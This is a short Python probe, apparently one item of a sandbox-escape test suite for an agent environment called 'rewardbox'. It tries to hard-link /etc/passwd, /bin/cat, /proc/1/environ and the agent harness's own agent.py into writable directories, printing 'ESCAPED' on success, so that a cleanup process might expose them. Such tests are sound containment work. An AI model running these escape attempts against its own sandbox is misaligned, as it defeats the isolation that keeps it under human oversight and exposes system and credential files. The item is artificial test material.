#: family = "files"
#: idea = "Hard links to files of others, to be opened or given away by whoever cleans up."
#: ends = ["exited"]
#: says = "tried"
import os

for target in ("/etc/passwd", "/bin/cat", "/proc/1/environ", "/opt/rewardbox/agent/agent.py"):
    for place in (".", "/tmp", "/dev/shm"):
        try:
            os.link(target, f"{place}/hard")
            print("ESCAPED: linked", target)
        except OSError:
            pass
print("tried")
